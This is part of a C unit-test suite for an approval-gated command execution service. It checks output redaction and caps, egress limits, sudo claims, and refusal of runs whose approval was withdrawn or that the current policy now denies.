	store_approvals_free(apv, napv);
	buf_free(&msg);
	return out;
}

static void
test_target_settings_run(void **state)
{
	struct fx *f = *state;
	char *out, *res;
	int64_t id;
	json_t *j;

	load_with(f, lab2, NULL, NULL);
	/* the policy's patterns mask for the operator, on top of the built-in kinds; the
	 * escort sees everything; the result counts them and the redacted view's hash */
	id = run_ok(f, "op-in", "lab2",
	            "pwd; echo 'who employee-123456 employee-12'; echo 'INTERNAL build 7'; "
	            "echo token=abc", WF_SUCCEEDED);
	out = view(f, "op-in", id, &res);
	assert_string_equal(out, "/tmp\nwho [REDACTED:policy-pattern] employee-12\n"
	                         "[REDACTED:policy-pattern]\ntoken=[REDACTED:assigned-secret]\n");
	free(out);
	j = json_loads(res, 0, NULL);
	assert_non_null(j);
	assert_int_equal(json_integer_value(json_object_get(json_object_get(j, "redactions"),
	                                                    "policy-pattern")), 2);
	assert_int_equal(json_integer_value(json_object_get(json_object_get(j, "redactions"),
	                                                    "assigned-secret")), 1);
	/* a local target is not attested unless its settings say so */
	assert_null(json_object_get(j, "attestation"));
	json_decref(j);
	free(res);
	out = view(f, "esc-1", id, NULL);
	assert_non_null(strstr(out, "employee-123456"));
	assert_non_null(strstr(out, "INTERNAL build 7"));
	free(out);
	/* the target's output_max (1 KiB) caps what is kept */
	id = run_ok(f, "op-in", "lab2", "head -c 5000 /dev/zero | tr '\\0' x", WF_SUCCEEDED);
	out = view(f, "esc-1", id, &res);
	assert_int_equal(strlen(out), 1024);
	assert_non_null(strstr(res, "\"truncated\":true"));
	assert_non_null(strstr(res, "\"output_bytes\":5000"));
	free(out);
	free(res);
	/* a rule's output.max_bytes lowers it further */
	load_with_rules(f, lab2, NULL, NULL,
	                "  - name: lab2-small-output\n    match: {target: lab2}\n"
	                "    output: {max_bytes: 100}\n");
	id = run_ok(f, "op-in", "lab2", "head -c 5000 /dev/zero | tr '\\0' x", WF_SUCCEEDED);
	out = view(f, "esc-1", id, NULL);
	assert_int_equal(strlen(out), 100);
	free(out);
}

static void
test_run_as(void **state)
{
	struct fx *f = *state;
	char *out, *res;
	int64_t id;

	load_with(f, "  - name: lab2\n    environment: commercial\n    transport: local\n"
	             "    settings: {timeout: 5s, run_as: nobody, cwd: /}\n",
	          NULL, NULL);
	id = run_ok(f, "op-in", "lab2", "id -un", geteuid() == 0 ? WF_SUCCEEDED : WF_FAILED);
	out = view(f, "esc-1", id, &res);
	if (geteuid() == 0) {
		assert_string_equal(out, "nobody\n");
	} else {
		/* not root: refused, with the reason, and nothing ran */
		assert_string_equal(out, "");
		assert_non_null(strstr(res, "cannot switch users"));
	}
	free(out);
	free(res);
}

static void
test_local_attest(void **state)
{
	struct fx *f = *state;
	char *out, *res;
	int64_t id;
	json_t *j, *a;

	load_with(f, "  - name: lab2\n    environment: commercial\n    transport: local\n"
	             "    settings: {timeout: 5s, attest: true}\n",
	          NULL, NULL);
	id = run_ok(f, "op-in", "lab2", "true", WF_SUCCEEDED);
	out = view(f, "esc-1", id, &res);
	j = json_loads(res, 0, NULL);
	a = json_object_get(j, "attestation");
	if (a == NULL || json_object_get(a, "error"))
		fprintf(stderr, "result: %s\n", res);
	assert_non_null(a);
	assert_null(json_object_get(a, "error"));
	assert_true(json_is_integer(json_object_get(a, "changes")));
	/* `true` changes no file; sockets of other processes on this host may come and go */
	{
		json_t *line;
		size_t i;

		json_array_foreach(json_object_get(a, "diff"), i, line) {
			if (strstr(json_string_value(line), "listening port") == NULL)
				fprintf(stderr, "unexpected change: %s\n", json_string_value(line));
			assert_non_null(strstr(json_string_value(line), "listening port"));
		}
	}
	json_decref(j);
	free(out);
	free(res);
}

#define DAY ((int64_t)86400 * 1000000)

static void
test_egress_cap(void **state)
{
	struct fx *f = *state;
	int64_t t0 = (int64_t)1795608000 * 1000000, id; /* 2026-11-25 12:00 UTC */
	char *out, *res;
	const char *cmd400 = "head -c 400 /dev/zero | tr '\\0' a";

	wf_set_clock(f->w, t0);
	load_with(f, lab2, "1000", "600");
	/* 400 of 600 today in commercial: all delivered, nothing noted */
	id = run_ok(f, "op-in", "lab2", cmd400, WF_SUCCEEDED);
	out = view(f, "op-in", id, &res);
	assert_int_equal(strlen(out), 400);
	assert_null(strstr(res, "egress"));
	free(out);
	free(res);
	/* 400 more: the environment's 600 cuts it at 200, and says so */
	id = run_ok(f, "op-in", "lab2", cmd400, WF_SUCCEEDED);
	out = view(f, "op-in", id, &res);
	assert_int_equal(strspn(out, "a"), 200);
	assert_string_equal(out + 200, "\n[escort: 200 more bytes withheld: the daily output "
	                               "limit (600 bytes per operator, in this environment) was "
	                               "reached]\n");
	assert_non_null(strstr(res, "\"egress\":{\"delivered\":200,\"limit\":600,\"scope\":"
	                            "\"environment\",\"withheld\":200}"));
	free(out);
	free(res);
	/* the escort still sees all of it */
	out = view(f, "esc-1", id, NULL);
	assert_int_equal(strlen(out), 400);
	free(out);
	/* the cap is spent: the next output is withheld entirely */
	id = run_ok(f, "op-in", "lab2", cmd400, WF_SUCCEEDED);
	out = view(f, "op-in", id, NULL);
	assert_string_equal(out, "[escort: 400 more bytes withheld: the daily output limit (600 "
	                         "bytes per operator, in this environment) was reached]\n");
	free(out);
	assert_int_equal(raw(f, "SELECT sum(delivered) FROM egress WHERE identity = 'op-in'"), 600);
	assert_int_equal(raw(f, "SELECT sum(withheld) FROM egress WHERE identity = 'op-in'"), 600);
	/* viewing again charges nothing more (one record per request) */
	out = view(f, "op-in", id, NULL);
	free(out);
	assert_int_equal(raw(f, "SELECT count(*) FROM egress"), 3);
	/* an identity who sees full output anyway is not capped */
	id = run_ok(f, "op-esc", "lab2", cmd400, WF_SUCCEEDED);
	out = view(f, "op-esc", id, NULL);
	assert_int_equal(strlen(out), 400);
	free(out);
	/* a new UTC day: a fresh allowance; without an environment cap the policy-wide 1000
	 * applies across environments */
	wf_set_clock(f->w, t0 + DAY);
	load_with(f, lab2, "1000", NULL);
	run_ok(f, "op-in", "lab2", cmd400, WF_SUCCEEDED);
	run_ok(f, "op-in", "lab2", cmd400, WF_SUCCEEDED);
	id = run_ok(f, "op-in", "lab2", cmd400, WF_SUCCEEDED);
	out = view(f, "op-in", id, &res);
	assert_int_equal(strspn(out, "a"), 200);
	assert_non_null(strstr(out, "(1000 bytes per operator, in all environments)"));
	assert_non_null(strstr(res, "\"scope\":\"policy\""));
	free(out);
	free(res);
	/* the records are history: they cannot be edited */
	assert_int_equal(raw(f, "SELECT count(*) FROM egress WHERE day = 20783"), 3);
	{
		char path[128];
		sqlite3 *db = NULL;

		snprintf(path, sizeof(path), "%s/%s", f->dir, STORE_FILE);
		assert_int_equal(sqlite3_open(path, &db), SQLITE_OK);
		sqlite3_busy_timeout(db, 5000);
		assert_int_not_equal(sqlite3_exec(db, "UPDATE egress SET delivered = 0", NULL, NULL,
		                                  NULL), SQLITE_OK);
		assert_int_not_equal(sqlite3_exec(db, "DELETE FROM egress", NULL, NULL, NULL),
		                     SQLITE_OK);
		sqlite3_close(db);
	}
	wf_set_clock(f->w, 0);
}

/* ---- the run-time claim: each way a request starts (escort request run, a session's
 * line, a sudo claim) refuses one whose approval was withdrawn (the approver's clearance
 * revoked by a reload), one the policy in force now denies, and one that already ran ---- */

/* The test policy in force again, with esc-1's clearance (NULL: as is) and a rule denying
 * everything on deny_target (NULL: none) appended. */
static void
reload(struct fx *f, const char *esc1_clearance, const char *deny_target)
{
	buf p = BUF_INIT, msg = BUF_INIT;

	assert_int_equal(make_policy(&p, esc1_clearance), 0);
	if (deny_target)
		buf_printf(&p, "  - name: test-deny-now\n    match: {target: %s}\n"
		               "    deny: not any more\n", deny_target);
	if (wf_policy_load(f->w, "test", (const char *)p.data, p.len, "reload.yaml", NULL,
	                   &msg) != 0)
		fprintf(stderr, "reload: %s\n", buf_cstr(&msg));
	assert_int_equal(msg.len, 0);
	buf_free(&p);
	buf_free(&msg);
}

/* request.refused records for request id in the audit log */
static int
refusals_of(struct fx *f, int64_t id, const char *action)
{
	audit_iter it;
	audit_event ev;
	const uint8_t *rec;
	size_t len;
	uint64_t seq;
	char err[512] = "", type[AUDIT_TYPE_MAX + 1];
	int n = 0;

	assert_int_equal(audit_iter_open(&it, f->dir, err, sizeof(err)), 0);
	while (audit_iter_next(&it, &rec, &len, &seq) == 0) {
		if (audit_event_peek(rec, len, &seq, type) != 0 || strcmp(type, "request.refused"))
			continue;
		assert_int_equal(audit_event_parse(rec, len, &ev, NULL, 0), 0);
		if (json_integer_value(json_object_get(ev.details, "request")) == id &&
		    strcmp(json_string_value(json_object_get(ev.details, "action")), action) == 0)
			n++;
		audit_event_free(&ev);
	}
	audit_iter_close(&it);
	return n;
}

static void
test_claim_run_refusals(void **state)
{
	struct fx *f = *state;
	buf msg = BUF_INIT;
	int64_t a, b, c;
	int st;

	/* three approved requests on dod-web, each approved by esc-1 */
	a = create(f, "op-in", "dod-web", "uptime", 0, 0, &st);
	b = create(f, "op-in", "dod-web", "hostname", 0, 0, &st);
	c = create(f, "op-in", "dod-web", "id -u", 0, 0, &st);
	assert_int_equal(approve(f, "esc-1", a, &st, NULL), 0);
	assert_int_equal(approve(f, "esc-1", b, &st, NULL), 0);
	assert_int_equal(approve(f, "esc-1", c, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	/* already ran */
	assert_int_equal(run(f, "op-in", c, &st, NULL), 0);
	assert_int_equal(run(f, "op-in", c, &st, &msg), WF_ECONFLICT);
	assert_non_null(strstr(buf_cstr(&msg), "at most once"));
	/* approval withdrawn: esc-1 is no longer cleared */
	reload(f, "none", NULL);
	buf_reset(&msg);
	assert_int_equal(run(f, "op-in", a, &st, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "no longer satisfy"));
	assert_non_null(strstr(buf_cstr(&msg), "esc-1"));
	assert_state(f, a, "approved");
	assert_int_equal(refusals_of(f, a, "run"), 1);
	/* the policy in force denies it now */
	reload(f, NULL, "dod-web");
	buf_reset(&msg);
	assert_int_equal(run(f, "op-in", b, &st, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "denies it now"));
	assert_non_null(strstr(buf_cstr(&msg), "not any more"));
	assert_state(f, b, "approved");
	/* the same requests run once the policy agrees again */
	reload(f, NULL, NULL);
	assert_int_equal(run(f, "op-in", b, &st, NULL), 0);
	assert_int_equal(st, WF_SUCCEEDED);
	buf_free(&msg);
}

/* A store that cannot say whether a request is a session's line fails the claim: the
 * request must not pass for a plain one and run outside its session. */
static void
test_claim_store_error_fails_closed(void **state)
{
	struct fx *f = *state;
	buf msg = BUF_INIT;
	int64_t a;
	int st;

	a = create(f, "op-in", "dod-web", "uptime", 0, 0, &st);
	assert_int_equal(approve(f, "esc-1", a, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	(void)raw(f, "DROP TABLE isession_lines");
	assert_int_equal(raw(f, "SELECT count(*) FROM sqlite_master WHERE name = 'isession_lines'"),
	                 0);
	assert_int_not_equal(run(f, "op-in", a, &st, &msg), 0);
	assert_non_null(strstr(buf_cstr(&msg), "cannot tell whether it is a session's line"));
	assert_state(f, a, "approved");
	buf_free(&msg);
}

/* A prepared creation is used only for the creation it was prepared for: given another
 * caller's or other commands, the request is created from what was asked now. */
static void
test_prepared_must_match(void **state)
{
	struct fx *f = *state;
	wf_new_request nr;
	const unsigned char *c1[1] = { (const unsigned char *)"uptime" };
	const unsigned char *c2[1] = { (const unsigned char *)"hostname" };
	size_t l1[1] = { 6 }, l2[1] = { 8 };
	wf_prepared *p = NULL;
	wf_created out;
	store_request r;
	buf msg = BUF_INIT;
	int64_t id = 0;
	int st = -1;

	memset(&nr, 0, sizeof(nr));
	nr.target = "dod-web";
	nr.cmds = c1;
	nr.lens = l1;
	nr.ncmds = 1;
	assert_int_equal(wf_request_prepare(f->w, "op-in", &nr, &p), 0);
	/* other bytes than were prepared */
	nr.cmds = c2;
	nr.lens = l2;
	assert_int_equal(wf_request_create_prepared(f->w, "op-in", &nr, p, &id, &st, &msg, &out), 0);
	assert_true(id > 0);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	assert_int_equal(r.ncmds, 1);
	assert_int_equal(r.cmds[0].len, 8);
	assert_memory_equal(r.cmds[0].bytes, "hostname", 8);
	store_request_clear(&r);
	wf_created_clear(&out);
	wf_prepared_free(p);
	/* another requester than it was prepared for */
	nr.cmds = c1;
	nr.lens = l1;
	p = NULL;
	assert_int_equal(wf_request_prepare(f->w, "op-in", &nr, &p), 0);
	buf_reset(&msg);
	(void)wf_request_create_prepared(f->w, "op-cn", &nr, p, &id, &st, &msg, &out);
	if (id > 0) {
		assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
		assert_string_equal(r.requester, "op-cn");
		store_request_clear(&r);
	}
	wf_created_clear(&out);
	wf_prepared_free(p);
	buf_free(&msg);
}

/* Enters line in session sid and has esc-1 approve it; returns its request id. */
static int64_t
approved_line(struct fx *f, int64_t sid, const char *line)
{
	buf msg = BUF_INIT;
	int64_t seq = 0, rid = 0;
	int st = -1;

	if (wf_isession_line_submit(f->w, "op-in", sid, (const unsigned char *)line, strlen(line),
	                            &seq, &rid, &st, &msg) != 0)
		fprintf(stderr, "line %s: %s\n", line, buf_cstr(&msg));
	assert_true(rid > 0);
	assert_int_equal(st, WF_PENDING);
	assert_int_equal(approve(f, "esc-1", rid, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	buf_free(&msg);
	return rid;
}

static void
test_claim_line_refusals(void **state)
{
	struct fx *f = *state;
	buf msg = BUF_INIT;
	int64_t sid = 0, a, b, c, plain;
	int st;

	assert_int_equal(wf_isession_start(f->w, "op-in", "dod-web", "CHG-1", &sid, &msg), 0);
	a = approved_line(f, sid, "uptime");
	b = approved_line(f, sid, "hostname");
	c = approved_line(f, sid, "id -u");
	/* a line is claimed by its operator only, once */
	assert_int_equal(wf_isession_line_claim(f->w, "esc-1", c, &msg), WF_EREFUSED);
	assert_int_equal(wf_isession_line_claim(f->w, "op-in", c, &msg), 0);
	assert_state(f, c, "running");
	buf_reset(&msg);
	assert_int_equal(wf_isession_line_claim(f->w, "op-in", c, &msg), WF_ECONFLICT);
	assert_non_null(strstr(buf_cstr(&msg), "at most once"));
	/* a line never runs as a plain request, nor a plain request as a line */
	assert_int_equal(run(f, "op-in", a, &st, NULL), WF_EREFUSED);
	plain = create(f, "op-in", "dod-web", "date", 0, 0, &st);
	assert_int_equal(approve(f, "esc-1", plain, &st, NULL), 0);
	assert_int_equal(wf_isession_line_claim(f->w, "op-in", plain, &msg), WF_EREFUSED);
	assert_state(f, plain, "approved");
	/* approval withdrawn */
	reload(f, "none", NULL);
	buf_reset(&msg);
	assert_int_equal(wf_isession_line_claim(f->w, "op-in", a, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "no longer satisfy"));
	assert_non_null(strstr(buf_cstr(&msg), "esc-1")); /* the line path now says why too */
	assert_state(f, a, "approved");
	assert_int_equal(refusals_of(f, a, "run"), 2); /* the plain run above, and this */
	/* the policy in force denies it now */
	reload(f, NULL, "dod-web");
	buf_reset(&msg);
	assert_int_equal(wf_isession_line_claim(f->w, "op-in", b, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "denies it now"));
	assert_state(f, b, "approved");
	/* allowed again, it runs; but not once its session was killed */
	reload(f, NULL, NULL);
	assert_int_equal(wf_isession_line_claim(f->w, "op-in", b, &msg), 0);
	{
		store_isession se;

		memset(&se, 0, sizeof(se));
		assert_int_equal(wf_isession_kill(f->w, "esc-1", sid, "test", &se, &msg), 0);
		store_isession_clear(&se);
	}
	buf_reset(&msg);
	assert_int_equal(wf_isession_line_claim(f->w, "op-in", a, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "killed"));
	buf_free(&msg);
}

/* The claim's audit hook: counts records and checks what sudo.allowed names. */
static int sudo_allowed;
static int
sudo_audit(void *ctx, const char *type, const char *actor, json_t *details, char *err,
           size_t errlen)
{
	(void)ctx;
	(void)err;
	(void)errlen;
	assert_string_equal(type, "sudo.allowed");
	assert_string_equal(actor, "host@dod-jump");
	assert_string_equal(json_string_value(json_object_get(details, "host")), "dod-jump");
	assert_string_equal(json_string_value(json_object_get(details, "requester")), "op-in");
	assert_int_equal(strlen(json_string_value(json_object_get(details, "command_sha256"))),
	                 64);
	assert_int_equal(json_array_size(json_object_get(details, "approvers")), 1);
	json_decref(details);
	sudo_allowed++;
	return 0;
}

/* A sudo request for argv0 on dod-jump by op-in, approved by esc-1; sha gets its hex. */
static int64_t
approved_sudo(struct fx *f, const char *argv0, char sha[65])
{
	const char *argv[1] = { argv0 };
	wf_sudo_req q;
	buf line = BUF_INIT, msg = BUF_INIT;
	unsigned char h[32];
	int64_t id = 0;
	int st = -1, i;

	memset(&q, 0, sizeof(q));
	q.host = "dod-jump";
	q.user = "op-in";
	q.argv = argv;
	q.argc = 1;
	if (wf_sudo_submit(f->w, "host@dod-jump", &q, &id, &st, &line, &msg) != 0)
		fprintf(stderr, "sudo submit: %s\n", buf_cstr(&msg));
	assert_true(id > 0);
	assert_int_equal(st, WF_PENDING);
	assert_int_equal(approve(f, "esc-1", id, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	assert_int_equal(EVP_Digest(line.data, line.len, h, NULL, EVP_sha256(), NULL), 1);
	for (i = 0; i < 32; i++)
		snprintf(sha + 2 * i, 3, "%02x", h[i]);
	buf_free(&line);
	buf_free(&msg);
	return id;
}

static void
test_claim_sudo_refusals(void **state)
{
	struct fx *f = *state;
	buf msg = BUF_INIT;
	char sa[65], sb[65], sc[65];
	int64_t a, b, c;
	int st;

	sudo_allowed = 0;
	a = approved_sudo(f, "/usr/bin/uptime", sa);
	b = approved_sudo(f, "/usr/bin/hostname", sb);
	c = approved_sudo(f, "/usr/bin/id", sc);
	/* another host, another command: nothing */
	assert_int_equal(wf_sudo_claim(f->w, "host@com-jump", c, sc, sudo_audit, NULL, &msg),
	                 WF_ENOTFOUND);
	buf_reset(&msg);
	assert_int_equal(wf_sudo_claim(f->w, "host@dod-jump", c, sa, sudo_audit, NULL, &msg),
	                 WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "another command"));
	/* already ran: handed over once */
	assert_int_equal(wf_sudo_claim(f->w, "host@dod-jump", c, sc, sudo_audit, NULL, &msg), 0);
	assert_int_equal(sudo_allowed, 1);
	assert_state(f, c, "succeeded");
	buf_reset(&msg);
	assert_int_equal(wf_sudo_claim(f->w, "host@dod-jump", c, sc, sudo_audit, NULL, &msg),
	                 WF_ECONFLICT);
	assert_non_null(strstr(buf_cstr(&msg), "at most once"));
	/* nor does escort run a sudo request itself */
	assert_int_equal(run(f, "op-in", a, &st, NULL), WF_EREFUSED);
	/* approval withdrawn */
	reload(f, "none", NULL);
	buf_reset(&msg);
	assert_int_equal(wf_sudo_claim(f->w, "host@dod-jump", a, sa, sudo_audit, NULL, &msg),
	                 WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "esc-1"));
	assert_state(f, a, "approved");
	assert_int_equal(refusals_of(f, a, "sudo.claim"), 1); /* audited now, as runs are */
	/* the policy in force denies it now */
	reload(f, NULL, "dod-jump");
	buf_reset(&msg);
	assert_int_equal(wf_sudo_claim(f->w, "host@dod-jump", b, sb, sudo_audit, NULL, &msg),
	                 WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "denies it now"));
	assert_state(f, b, "approved");
	assert_int_equal(sudo_allowed, 1);
	/* allowed again: handed over */
	reload(f, NULL, NULL);
	assert_int_equal(wf_sudo_claim(f->w, "host@dod-jump", b, sb, sudo_audit, NULL, &msg), 0);
	assert_int_equal(sudo_allowed, 2);
	buf_free(&msg);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_hash_binds_everything),
		cmocka_unit_test(test_transition_table),
		cmocka_unit_test_setup_teardown(test_lifecycle, setup, teardown),
		cmocka_unit_test_setup_teardown(test_expiry, setup, teardown),
		cmocka_unit_test_setup_teardown(test_revoked_clearance, setup, teardown),
		cmocka_unit_test_setup_teardown(test_policy_reload_errors_keep_old, setup, teardown),
		cmocka_unit_test_setup_teardown(test_tokens, setup, teardown),
		cmocka_unit_test_setup_teardown(test_bad_input, setup, teardown),
		cmocka_unit_test_setup_teardown(test_audit_fail_closed, setup, teardown),
		cmocka_unit_test_setup_teardown(test_tampered_bytes_never_run, setup, teardown),
		cmocka_unit_test_setup_teardown(test_local_execution, setup, teardown),
		cmocka_unit_test_setup_teardown(test_target_settings_run, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_as, setup, teardown),
		cmocka_unit_test_setup_teardown(test_local_attest, setup, teardown),
		cmocka_unit_test_setup_teardown(test_egress_cap, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claim_run_refusals, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claim_line_refusals, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claim_sudo_refusals, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claim_store_error_fails_closed, setup, teardown),
		cmocka_unit_test_setup_teardown(test_prepared_must_match, setup, teardown),
	};
	return cmocka_run_group_tests_name("workflow", tests, NULL, NULL);
}
